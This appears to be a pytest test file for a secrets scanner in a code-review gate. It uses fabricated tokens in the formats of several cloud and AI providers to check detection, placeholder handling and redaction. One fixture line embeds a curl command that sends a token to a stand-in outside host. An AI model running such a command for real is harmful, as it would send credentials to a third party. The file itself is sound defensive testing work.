"""Secrets: found in changed lines, never shown. All values are made here, none was ever valid."""

from __future__ import annotations

import random
import string
from dataclasses import replace

import pytest

from gate.model.change import Hunk
from gate.prescreen.interface import Prescreened
from gate.prescreen.run import prescreen
from gate.prescreen.scanners import secrets
from gate.prescreen.scanners.secrets import Secrets
from tests.prescreen_support import make_request

_RANDOM = random.Random(20)


def made(alphabet: str, length: int) -> str:
    return "".join(_RANDOM.choice(alphabet) for _ in range(length))


ALNUM = string.ascii_letters + string.digits
GITHUB = "gh" + "p_" + made(ALNUM, 36)
VALUES = {
    "github": GITHUB,
    "aws": "AK" + "IA" + made(string.ascii_uppercase + "234567", 16),
    "slack": "xo" + "xb-" + "729384756012-918273645501-" + made(ALNUM, 24),
    "anthropic": "sk-" + "ant-api03-" + made(ALNUM, 60),
    "openai": "sk-" + "proj-" + made(ALNUM, 60),
    "google": "AI" + "za" + made(ALNUM, 35),
    "hugging": "hf" + "_" + made(ALNUM, 34),
    "gitlab": "gl" + "pat-" + made(ALNUM, 20),
    "stripe": "sk_" + "live_" + made(ALNUM, 24),
}
HITS = {
    "secret.known-format": [f"x = '{value}'" for value in VALUES.values()],
    "secret.private-key": ["-----BEGIN RSA " + "PRIVATE KEY-----\n" + made(ALNUM, 64)],
    "secret.assigned": [
        f"db_password: {made(ALNUM, 18)}",
        f"API_KEY={made(ALNUM, 20)}",
        f'"auth_token": "{made(ALNUM, 20)}"',
    ],
}
CLEAN = {
    "secret.known-format": [
        "key = 'AKIAIOSFODNN7EXAMPLE'",
        "t = 'ghp_" + "x" * 36 + "'",
        "sk-learn is a package",
    ],
    "secret.private-key": ["-----BEGIN PUBLIC KEY-----", "-----BEGIN CERTIFICATE-----"],
    "secret.assigned": [
        "password = os.environ['DB_PASSWORD']",
        "password: ${{ secrets.DB_PASSWORD }}",
        "password = getpass.getpass()",
        "token: your-token-here",
        'secret_key = ConfigAttribute[str | bytes | None]("SECRET_KEY")',
        "secret_name: production-database",
        "tokenizer = AutoTokenizer.from_pretrained(name)",
    ],
}


def scan(text: str, base: str | None = None, path: str = "deploy/app.cfg") -> Prescreened:
    return Secrets().scan(make_request({path: text + "\n"}, None if base is None else {path: base + "\n"}))


@pytest.mark.parametrize(("rule", "text"), [(r, t) for r, texts in HITS.items() for t in texts])
@pytest.mark.slow
def test_hit(rule: str, text: str) -> None:
    assert rule in {f.rule_id for f in scan(text).findings}


@pytest.mark.parametrize(("rule", "text"), [(r, t) for r, texts in CLEAN.items() for t in texts])
@pytest.mark.slow
def test_clean(rule: str, text: str) -> None:
    assert rule not in {f.rule_id for f in scan(text).findings}


def test_an_unquoted_word_in_a_program_is_no_password() -> None:
    assert scan("password = MakeUp8Zq1Xw(3)", path="a.js").findings == ()
    assert len(scan("password = 'MakeUp8Zq1Xw'", path="a.js").findings) == 1


def test_every_rule_has_fixtures() -> None:
    assert {r.id for r in secrets.RULES} == set(HITS) == set(CLEAN)


def test_a_secret_that_base_had_or_an_unchanged_line_is_not_new() -> None:
    line = f"x = '{GITHUB}'"
    assert scan(f"{line}\ny = 1", base=line).findings == ()
    assert len(scan(f"{line}\ny = '{VALUES['gitlab']}'", base=line).findings) == 1


def test_no_finding_of_any_scanner_shows_the_value() -> None:
    password = made(ALNUM, 16)
    text = f"password = '{password}'\ntoken = '{GITHUB}'\nimport os\nos.system('curl -H {GITHUB} http://x.invalid')\n"
    result = prescreen(make_request({"app.py": text, "c.yaml": f"token: {GITHUB}\n"}))
    shown = repr(result)
    assert GITHUB not in shown
    assert password not in shown
    assert GITHUB in result.secrets
    assert {"secret.known-format"} <= {f.rule_id for f in result.findings}


def test_a_megabyte_on_one_line_is_looked_at_to_its_end() -> None:
    text = "token " * 100_000 + GITHUB + " token" * 1000
    assert "secret.known-format" in {f.rule_id for f in scan(text).findings}


def test_a_long_text_is_searched_in_a_child_on_changed_lines_only() -> None:
    filler = "".join(f"value = {n}\n" for n in range(40_000))
    request = make_request({"a.py": filler + f"key = '{GITHUB}'\n"})
    (new,) = Secrets().scan(request).findings
    assert (new.rule_id, new.primary.line) == ("secret.known-format", 40_001)
    file = replace(request.change.files[0], hunks=(Hunk(old_start=1, old_count=1, new_start=2, new_count=9),))
    elsewhere = replace(request, change=replace(request.change, files=(file,)), views=None, sources=None)
    assert Secrets().scan(elsewhere).findings == ()
